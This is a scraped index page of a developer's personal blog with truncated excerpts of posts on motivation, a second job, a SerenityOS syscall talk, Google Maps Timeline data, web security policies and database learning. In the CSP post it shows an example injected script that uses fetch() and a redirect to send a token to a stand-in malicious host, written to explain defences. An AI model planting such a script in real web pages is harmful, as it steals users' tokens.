Skip to main content


Showing posts from 2023

Motivated Developers Do Valuable Things (Mostly)

I have a provocative claim that people do what they want in a given software organization and then play the game of scrum or some similar established process. A more nuanced way of putting that is that we (developers) are incredibly easy to sidetrack from the commonly agreed "most important TODO items." Sure, we follow the abstract, larger vision of a given product, but the more granular the level, the more variance there is in people following the predetermined issue list. When it is written or said out, all that does not seem that provocative. It is actually written in agile process documentation, but not in those words. Agile process talks about "requirement volatility" which can be seen as a similar thing I am talking about. Given most employees do what they want, how do organizations keep on top of that? Now, for what might seem like a continuation of stating the obvious: meetings and issue trackers are vital tools for monitoring team activities. Motivated indi

Second job

I've taken a hiatus from blogging for the past few months, partially due to laziness but mainly due tothe start of my second job. Why take on more work? As a well-compensated developer, I could live comfortably on a single income, could I? Money was not the prime mover but rather the personaldevelopment path. Although I can tinker with cool technologies with professional colleagues in my day job, I can't shake the feeling that I may have become too comfortable. There's nothing inherently wrong with being in a comfortable position, but that's not where I'm meant to be right now. I am well aware of the dangers of taking on more work with deadlines, meetings, and time pressures—the typical catalysts of burnout. Therefore, I must let go of some responsibilities. Writing brings me joy, but the preparation involved in preparing technical blog posts (admittedly, there have been few recently) can overheat my mental engine. I'm not advocating for or against voluntaril

My SerenityOS presentation at a local tech meetup

I gave a presentation about SerenityOS, and system calls at a local tech meetup last week.It took about 20 hours to prepare for the presentation. The original plan was to discuss also subjects other than system calls, but I quickly realized I ought to shave off most of those. KISS, you know, better to focus on one thing.  I needed to dive deep into the nitty-gritty details of how system calls work in Linux. I had to spend some time refreshing my memory by re-reading the Linux Insides book , just to make sure I got the comparison right between SerenityOS syscalls and Linux kernel syscalls. I took a good look at the sysinfo system call Linux kernel code and peeked at its syscall table. It was some intense stuff! When I started preparing the presentation, Serenity still supported i686 (32-bit Intel) CPU architecture and the system calls used the interrupt-based invocation. That changed just in time for my talk, which was fantastic for my presentation since fast system calls are easier tSpying myself through the lense of Google Maps Timeline data

I took an export of my Google Maps Timeline data and discovered it to be a treasure trove of information. I was initially only interested in seeing how often I visit the local boulder gym, but I found myself soon digging into more such details. The data consist of activities and place visits. An activity looks like this: You can peek through the internals in a way since you can see which options for a given activity Google algorithms have considered. A place visit, on the other hand, is: As you can see, the data contains not just the place you can see from Maps you have visited but actually the metadata and the confidence scores of where Google thinks you have been. Using the dataset, it is pretty easy to find out which locations you have visited and how long you have stayed. I co-authored with ChatGPT this simple script that outputs how many hours and times you have visited a given place.

CSP, SOP, CORS, which one are you talking about?

Many blog posts and articles explain which types of attacks the same-origin policy guards against (term usually mixed with CORS). The tl;dr version is that it offers limited protection and is no silver bullet. I'm not going into all the details here, but I find myself writing a blog post to remind me how to harden client-side web applications.  You actually need to spend time configuring the Content Security Policy. It offers an added layer of protection but is quite a pain to get right.  Here is an example. Say you have a vulnerability in your web application that allows arbitrary script execution. The attacker manages to embed this script into your frontend. <script> fetch('https://mailicioussite.somewhere/?yourtoken=token'); window.location.href ='https://mailicioussite.somewhere/?yourtoken=token'); </script> The same-origin policy does not help since the GET request goes through to the malicious site. A decent CSP policy could prevent both the fetc

Practicing zone of proximal development

I was at a LIVE tech conference last week! The keynote was about learning through tinkering. The talk had a chapter that resonated with me quite profoundly: the zone of proximal development . Essentially, it means a student can only learn something "around" a given subject if the topic is familiar to them. As I've written here a few times, one of the pieces oftechnology close to my heart is Postgres (and RDMSs in general). I know the basics + some more and can tune some common knobs. Having said that, database internals present a fascinating mystery. I don't understand how they work under the hood - not even close.  I believe that delving into the details and getting hands-on experience can take my understanding to a whole new level. This is the essence of the zone of proximaldevelopment - learning by doing and pushing the boundaries of what we already know. I stumbled upon the Carnegie Mellon university database lecture series in some of theinvestigatory rabbit